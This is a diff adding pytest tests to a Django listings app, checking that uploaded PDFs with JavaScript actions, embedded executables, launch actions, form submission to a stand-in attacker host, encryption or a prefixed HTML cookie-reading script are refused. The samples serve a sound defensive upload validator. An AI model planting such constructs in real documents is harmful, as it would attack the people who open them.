@@ -6,14 +6,17 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils import translation
 from PIL import Image
+from pypdf.actions import JavaScript
+from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
 
 from listings.models import ListingAttachment, ListingImage
 from listings.services import listings as services
 from techmarket.accounts.choices import OrganisationKind
 from tests.factories import OrganisationFactory, add_member, make_listing
 
-from .conftest import MINIMAL_PDF, image_bytes
+from .conftest import MINIMAL_PDF, image_bytes, pdf_bytes
 
 pytestmark = pytest.mark.django_db
 
@@ -144,6 +147,147 @@ def test_pdf_attachments(member, listing, media_root):
             )
     assert ListingAttachment.objects.count() == 1
     assert len(_files(media_root)) == 1
+
+
+# Hostile PDFs ------------------------------------------------------------------------------------------------------
+
+
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _link_annotation(action: DictionaryObject) -> DictionaryObject:
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(250), FloatObject(100)]),
+            NameObject("/A"): action,
+        }
+    )
+
+
+def _with_js(writer):
+    writer.add_open_action(JavaScript("app.alert('pwned');"))  # the catalog's /Names /JavaScript tree
+
+
+def _with_attachment(writer):
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
+
+
+def _with_launch(writer):
+    writer.add_annotation(0, _link_annotation(_action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe"))))
+
+
+def _with_open_action_js(writer):
+    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
+
+
+def _with_page_aa_js(writer):
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("this.print()"))}
+    )
+
+
+def _with_submit_form(writer):
+    writer.add_annotation(0, _link_annotation(_action("/SubmitForm", F=TextStringObject("http://attacker.invalid/"))))
+
+
+def _with_import_data(writer):
+    writer.add_annotation(0, _link_annotation(_action("/ImportData", F=TextStringObject("data.fdf"))))
+
+
+def _encrypted(writer):
+    writer.encrypt(user_password="", owner_password="secret", algorithm="RC4-128")
+
+
+def _attach(member, listing, content: bytes):
+    return services.listing_attachment_add(
+        actor=member, listing=listing, file=SimpleUploadedFile("brochure.pdf", content), title="技术简介"
+    )
+
+
+def test_a_plain_pdf_made_by_a_pdf_library_is_accepted(member, listing):
+    content = pdf_bytes()
+    assert _attach(member, listing, content).size == len(content)
+
+
+@pytest.mark.parametrize(
+    ("content", "code", "message"),
+    [
+        (pdf_bytes(_with_js), "pdf_javascript", "contains JavaScript"),
+        (pdf_bytes(_with_open_action_js), "pdf_javascript", "contains JavaScript"),
+        (pdf_bytes(_with_page_aa_js), "pdf_javascript", "contains JavaScript"),
+        (pdf_bytes(_with_attachment), "pdf_embedded_file", "carries embedded files"),
+        (pdf_bytes(_with_launch), "pdf_launch", "starts a program"),
+        (pdf_bytes(_with_submit_form), "pdf_form_action", "sends or imports data"),
+        (pdf_bytes(_with_import_data), "pdf_form_action", "sends or imports data"),
+        (pdf_bytes(_encrypted), "pdf_encrypted", "encrypted or protected by a password"),
+        (
+            b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf_bytes(),
+            "pdf_prefixed",
+            "something else before its PDF header",
+        ),
+        (b" " + pdf_bytes(), "pdf_prefixed", "something else before its PDF header"),
+        (b"%PDF-1.7\n" + b"\x00garbage\xff" * 50 + b"\n%%EOF\n", "pdf_unreadable", "cannot be read"),
+    ],
+    ids=[
+        "javascript",
+        "open-action-javascript",
+        "page-action-javascript",
+        "embedded-file",
+        "launch",
+        "submit-form",
+        "import-data",
+        "encrypted",
+        "html-before-header",
+        "space-before-header",
+        "unparseable",
+    ],
+)
+def test_hostile_pdfs_are_refused_with_the_reason_and_nothing_is_stored(
+    member, listing, media_root, content, code, message
+):
+    with translation.override("en"), pytest.raises(ValidationError) as caught:
+        _attach(member, listing, content)
+    assert [error.code for error in caught.value.error_dict["file"]] == [code]
+    assert message in " ".join(caught.value.messages)
+    assert not ListingAttachment.objects.exists()
+    assert _files(media_root) == []
+
+
+def test_every_reason_is_named(member, listing):
+    def everything(writer):
+        _with_js(writer)
+        _with_attachment(writer)
+        _with_launch(writer)
+
+    with pytest.raises(ValidationError) as caught:
+        _attach(member, listing, pdf_bytes(everything))
+    codes = [error.code for error in caught.value.error_dict["file"]]
+    assert codes == ["pdf_javascript", "pdf_embedded_file", "pdf_launch"]
+
+
+def test_a_script_pdf_is_refused_on_the_upload_page_and_through_the_api(client, member, listing, media_root):
+    client.force_login(member)
+    with translation.override("en"):
+        url = reverse("listings:listing_files", args=[listing.pk])
+    response = client.post(
+        url, {"kind": "file", "file-file": SimpleUploadedFile("x.pdf", pdf_bytes(_with_js)), "file-title": "简介"}
+    )
+    assert response.status_code == 400
+    assert "contains JavaScript" in response.content.decode()
+    response = client.post(
+        f"/api/v1/listings/{listing.pk}/attachments/",
+        {"file": SimpleUploadedFile("x.pdf", pdf_bytes(_with_attachment)), "title": "简介"},
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+    assert response.status_code == 400
+    assert "embedded files" in response.json()["file"][0]
+    assert not ListingAttachment.objects.exists() and _files(media_root) == []
 
 
 # Through the page ------------------------------------------------------------------------------------------------
